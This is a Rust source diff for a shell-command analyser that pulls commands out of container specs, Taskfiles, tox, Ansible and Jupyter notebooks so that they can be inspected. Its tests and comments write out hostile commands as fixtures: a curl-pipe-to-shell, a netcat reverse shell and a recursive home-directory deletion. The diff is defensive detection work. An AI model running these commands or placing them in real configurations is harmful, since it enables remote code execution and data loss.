@@ -139,6 +139,10 @@ pub struct SinkSpec {
     /// Options whose value is inline program text (`interp`).
     #[serde(default)]
     pub flags: Vec<String>,
+    /// At least one of these options must be on the command line (`jupyter nbconvert` runs a
+    /// notebook only with `--execute`).
+    #[serde(default)]
+    pub require_flags: Vec<String>,
     /// For ansible: the module (`-m`, default `command`) must be one of these.
     #[serde(default)]
     pub require_module: Vec<String>,
@@ -404,6 +408,8 @@ pub enum Format {
     /// A systemd-tmpfiles configuration: its removal lines (`R`/`r` remove a path, `D` the
     /// contents of a directory) as the `rm` commands they amount to.
     Tmpfiles,
+    /// A Jupyter notebook: its code cells (Python, `!cmd` lines, `%%bash` cells).
+    Notebook,
 }
 
 impl Format {
@@ -424,6 +430,7 @@ impl Format {
             "escapes" => Format::Escapes,
             "ssh-config" => Format::SshConfig,
             "tmpfiles" => Format::Tmpfiles,
+            "notebook" => Format::Notebook,
             other => Format::Code(Lang::parse(Some(other))),
         }
     }
@@ -465,21 +472,14 @@ impl Format {
             Format::Lines => {
                 for l in content.lines() {
                     let t = l.trim_start().trim_start_matches("- ").trim_start();
-                    let value = [
-                        "run:",
-                        "cmd:",
-                        "command:",
-                        "script:",
-                        "shell:",
-                        "commands =",
-                        "commands=",
-                        "command =",
-                        "cmds:",
-                        "entrypoint:",
-                    ]
-                    .iter()
-                    .find_map(|k| t.strip_prefix(k));
+                    let key = LINE_KEYS.iter().find(|k| t.starts_with(**k));
+                    let value = key.map(|k| &t[k.len()..]);
+                    // `command:`/`entrypoint:` of a container spec hold an argv, `cmds:` of a
+                    // Taskfile a list of commands.
+                    let argv_list = key.is_some_and(|k| ARGV_KEYS.contains(k));
                     match value.map(str::trim) {
+                        // `command: ["sh", "-c", "curl … | sh"]`: one command, its words.
+                        Some(v) if v.starts_with('[') && argv_list => push(&inline_argv(v)),
                         // `cmds: ["a", "b"]`: an inline list, one command per item.
                         Some(v) if v.starts_with('[') => {
                             v.trim_matches(['[', ']']).split("\",").for_each(&mut push)
@@ -490,6 +490,9 @@ impl Format {
                             let after = t.split_once("command = \"").map_or("", |x| x.1);
                             push(after.rsplit_once('"').map_or(after, |x| x.0))
                         }
+                        // A list item that is a mapping (`- name: web`, `- {name: x}`) or a
+                        // flow sequence holds settings, not a command.
+                        None if t.starts_with(['{', '[']) || yaml_key_value(t) => {}
                         None if l.trim_start().starts_with("- ")
                             || l.starts_with([' ', '\t'])
                                 && !t.contains(": ")
@@ -516,6 +519,7 @@ impl Format {
                     }
                 }
             }
+            Format::Notebook => return notebook_commands(content),
             Format::JsonScripts => match serde_json::from_str::<serde_json::Value>(content) {
                 Ok(v) => {
                     if let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) {
@@ -1138,7 +1142,9 @@ pub fn extract(cmd: &Command, input: Option<&Word>) -> Vec<Found> {
             Extract::Make => make(args, input, &mut push),
             Extract::ReadsFiles => read_files(spec, args, cmd.span, &mut push),
             Extract::SourceFiles => {
-                if let Some(start) = subcommand_ok(spec, args) {
+                let flagged = spec.require_flags.is_empty()
+                    || args.iter().any(|a| spec.require_flags.contains(&a.text));
+                if let Some(start) = subcommand_ok(spec, args).filter(|_| flagged) {
                     let format = Format::parse(spec.file_format.as_deref());
                     for a in &args[start..] {
                         if spec.extensions.iter().any(|x| a.text.ends_with(x.as_str())) {
@@ -1275,16 +1281,38 @@ pub fn code_file_words(cmd: &Command) -> Vec<&Word> {
     let Some(spec) = table().for_program(cmd.name()).next() else {
         return Vec::new();
     };
+    let args = cmd.args();
     let names: &[&str] = match spec.extract {
         Extract::Sed | Extract::Awk | Extract::Make | Extract::Stdin => &["-f", "--file"],
-        _ => return Vec::new(),
+        _ => &[],
     };
-    let args = cmd.args();
-    args.iter()
+    // A file named by its address (`kubectl apply -f "https://…/$(curl …)/m.yaml"`) is fetched
+    // by the program; the substitution only builds the address.
+    let address = |w: &&Word| w.text.starts_with("https://") || w.text.starts_with("http://");
+    let mut out: Vec<&Word> = args
+        .iter()
         .enumerate()
         .filter(|(_, a)| names.contains(&a.text.as_str()))
         .filter_map(|(i, _)| args.get(i + 1))
-        .collect()
+        .filter(|w| !address(w))
+        .collect();
+    // Any file a sink reads as code, given as a process substitution (`ansible-playbook <(curl …)`,
+    // `m4 <(…)`, `jupyter execute <(…)`).
+    if args.iter().any(|a| !a.subs.is_empty()) {
+        for found in extract(cmd, None) {
+            let Code::File(w, _) = &found.code else {
+                continue;
+            };
+            let process = |a: &Word| a.text.starts_with("<(") || a.text.starts_with("/dev/fd/");
+            let given = args
+                .iter()
+                .find(|a| a.span == w.span && a.text == w.text && !a.subs.is_empty() && process(a));
+            if let Some(a) = given.filter(|a| !out.iter().any(|o| std::ptr::eq(*o, *a))) {
+                out.push(a);
+            }
+        }
+    }
+    out
 }
 
 /// Values of options whose value is a whole shell command (`su -c "$(…)"`, `flock L -c …`,
@@ -1569,6 +1597,113 @@ fn option_values(spec: &SinkSpec, args: &[Word], push: &mut Push) {
 /// A command line without the quotes of the value that held it: a surrounding pair
 /// (`"make test"`), or an unpaired quote at either end (`"a` of a split `["a", "b"]`). Quotes
 /// inside stay (`sh -c "id"`).
+/// Keys of YAML, INI and HCL configuration whose value is a command line: CI steps, Taskfiles,
+/// tox (`commands_pre =`), compose and Kubernetes specs, Ansible tasks.
+const LINE_KEYS: &[&str] = &[
+    "run:",
+    "cmd:",
+    "command:",
+    "script:",
+    "shell:",
+    "raw:",
+    "ansible.builtin.shell:",
+    "ansible.builtin.command:",
+    "ansible.builtin.raw:",
+    "commands =",
+    "commands=",
+    "commands_pre =",
+    "commands_pre=",
+    "commands_post =",
+    "commands_post=",
+    "command =",
+    "cmds:",
+    "entrypoint:",
+];
+
+/// `key: value` of a YAML mapping (a plain key, then a colon and a blank).
+fn yaml_key_value(t: &str) -> bool {
+    t.split_once(": ").is_some_and(|(k, _)| {
+        !k.is_empty()
+            && k.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
+    })
+}
+
+/// Keys whose inline list is one command's argv rather than a list of commands.
+const ARGV_KEYS: &[&str] = &["command:", "entrypoint:"];
+
+/// `["sh", "-c", "curl … | sh"]` as the command line it runs: each item one word (quoted
+/// when it holds anything but plain word characters).
+fn inline_argv(list: &str) -> String {
+    let items = super::payload::as_list(list).unwrap_or_default();
+    let plain = |i: &str| {
+        !i.is_empty()
+            && i.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c))
+    };
+    let quoted: Vec<String> = items
+        .iter()
+        .map(|i| match plain(i) {
+            true => i.clone(),
+            false => format!("'{}'", i.replace('\'', "'\\''")),
+        })
+        .collect();
+    quoted.join(" ")
+}
+
+/// A Jupyter notebook's code cells as shell input: `!cmd` lines and `%%bash`/`%%sh` cells as
+/// commands, the Python of the other cells fed to `python3` (the kernel runs it).
+fn notebook_commands(content: &str) -> Option<String> {
+    let v: serde_json::Value = serde_json::from_str(content).ok()?;
+    let mut shell = String::new();
+    let mut python = String::new();
+    for cell in v.get("cells")?.as_array()? {
+        if cell.get("cell_type").and_then(|t| t.as_str()) != Some("code") {
+            continue;
+        }
+        let source = match cell.get("source") {
+            Some(serde_json::Value::String(s)) => s.clone(),
+            Some(serde_json::Value::Array(a)) => {
+                let lines = a.iter().filter_map(|x| x.as_str());
+                // Lines of a source list keep their own line ends (mostly).
+                lines.fold(String::new(), |mut acc, l| {
+                    acc.push_str(l);
+                    if !l.ends_with('\n') {
+                        acc.push('\n');
+                    }
+                    acc
+                })
+            }
+            _ => continue,
+        };
+        let first = source.lines().next().unwrap_or("").trim();
+        if ["%%bash", "%%sh", "%%script bash", "%%script sh", "%%system"].contains(&first) {
+            shell.extend(source.lines().skip(1).map(|l| format!("{l}\n")));
+            continue;
+        }
+        for line in source.lines() {
+            let t = line.trim_start();
+            match t.strip_prefix('!').or_else(|| t.strip_prefix("%system ")) {
+                Some(cmd) => {
+                    shell.push_str(cmd);
+                    shell.push('\n');
+                }
+                None if t.starts_with('%') => {}
+                None => {
+                    python.push_str(line);
+                    python.push('\n');
+                }
+            }
+        }
+    }
+    if !python.trim().is_empty() {
+        shell.push_str(&format!(
+            "python3 - <<'HERMES_NOTEBOOK_EOF'\n{python}HERMES_NOTEBOOK_EOF\n"
+        ));
+    }
+    Some(shell)
+}
+
 fn unquote_line(line: &str) -> &str {
     let mut t = line;
     for q in ['"', '\''] {
@@ -1963,6 +2098,10 @@ fn sql_code(w: &Word, push: &mut Push) {
 }
 
 fn stdin_commands(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push) {
+    let Some(start) = subcommand_ok(spec, args) else {
+        return;
+    };
+    let args = &args[start..];
     for (i, a) in args.iter().enumerate() {
         if spec.file_options.contains(&a.text) {
             if let Some(f) = args.get(i + 1) {
@@ -3604,15 +3743,17 @@ fn interp(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push)
                 continue;
             }
         }
-        // Bundled short flags (`perl -we CODE`) are a Unix convention; PowerShell's parameters
-        // are whole words (`-NoProfile` is not `-e`).
+        // Bundled short flags (`perl -we CODE`) are a Unix convention; PowerShell's parameters,
+        // and those of Erlang, Kotlin and the other languages without an analyser here, are
+        // whole words (`-NoProfile` is not `-e`, `kotlinc -script` is not `-s -c ript`).
         let ps = lang == Lang::PowerShell;
+        let whole_words = ps || lang == Lang::Other;
         let is_flag = spec
             .flags
             .iter()
             .any(|f| f == t || (ps && f.eq_ignore_ascii_case(t)))
             || (t.len() > 2
-                && !ps
+                && !whole_words
                 && t.starts_with('-')
                 && !t.starts_with("--")
                 && t[1..].chars().all(|c| c.is_ascii_alphabetic())
@@ -3656,7 +3797,7 @@ fn interp(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push)
         // `python3 -cCODE`, `ruby -e'CODE'`, `perl -lne'CODE'`: the code attached to the flag,
         // after any bundled letters (code, unlike an option word such as `-eval`, holds
         // something other than letters and digits).
-        if lang != Lang::PowerShell && t.starts_with('-') && !t.starts_with("--") {
+        if !whole_words && t.starts_with('-') && !t.starts_with("--") {
             let attached = spec.flags.iter().filter(|f| f.len() == 2).find_map(|f| {
                 let letter = f.as_bytes()[1] as char;
                 let body = &t[1..];
@@ -3745,8 +3886,9 @@ fn interp(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push)
                 push(Code::Text(lang, a.clone()), Place::default());
                 return;
             }
-            // `deno run -A x.ts`, `bun run x.ts`: the script file follows the subcommand.
-            if t == "run" && lang == Lang::JavaScript && !seen_run {
+            // `deno run -A x.ts`, `bun run x.ts`, `mix run -e CODE`: the script file or the
+            // code follows the subcommand.
+            if t == "run" && matches!(lang, Lang::JavaScript | Lang::Other) && !seen_run {
                 seen_run = true;
                 i += 1;
                 continue;
@@ -4313,5 +4455,41 @@ mod cmake_m4_tests {
         let lines = Format::M4.command_lines(text).unwrap();
         let lines: Vec<&str> = lines.lines().collect();
         assert_eq!(lines, ["git describe", "rm -rf $(echo ~)"]);
+    }
+}
+
+#[cfg(test)]
+mod config_format_tests {
+    use super::*;
+
+    #[test]
+    fn container_specs_hold_one_argv_and_task_lists_several_commands() {
+        let pod = "spec:\n  containers:\n  - name: c\n    command: [\"sh\", \"-c\", \"curl -s x.example | sh\"]\n";
+        let lines = Format::Lines.command_lines(pod).unwrap();
+        assert!(lines.contains("sh -c 'curl -s x.example | sh'"), "{lines}");
+        let compose = "    entrypoint: [\"/bin/sh\",\"-c\",\"nc h 9 -e /bin/sh\"]\n";
+        let lines = Format::Lines.command_lines(compose).unwrap();
+        assert_eq!(lines.trim(), "/bin/sh -c 'nc h 9 -e /bin/sh'");
+        let tasks = "    cmds: [\"make a\", \"make b\"]\n";
+        let lines = Format::Lines.command_lines(tasks).unwrap();
+        assert_eq!(lines.lines().collect::<Vec<_>>(), ["make a", "make b"]);
+        let tox = "[testenv]\ncommands_pre = bash -c 'id'\n";
+        assert!(Format::Lines
+            .command_lines(tox)
+            .unwrap()
+            .contains("bash -c 'id'"));
+    }
+
+    #[test]
+    fn notebooks_give_shell_lines_and_the_python_of_their_cells() {
+        let nb = r#"{"cells":[{"cell_type":"markdown","source":"!not code"},{"cell_type":"code","source":["import os\n","!curl -s x.example | sh\n","%matplotlib inline\n","os.system('id')"]},{"cell_type":"code","source":"%%bash\nrm -rf build"}]}"#;
+        let text = Format::Notebook.command_lines(nb).unwrap();
+        assert!(
+            text.starts_with("curl -s x.example | sh\nrm -rf build\n"),
+            "{text}"
+        );
+        assert!(text.contains("python3 - <<'HERMES_NOTEBOOK_EOF'\nimport os\nos.system('id')\nHERMES_NOTEBOOK_EOF"), "{text}");
+        assert!(!text.contains("not code") && !text.contains("matplotlib"));
+        assert_eq!(Format::Notebook.command_lines("not json"), None);
     }
 }
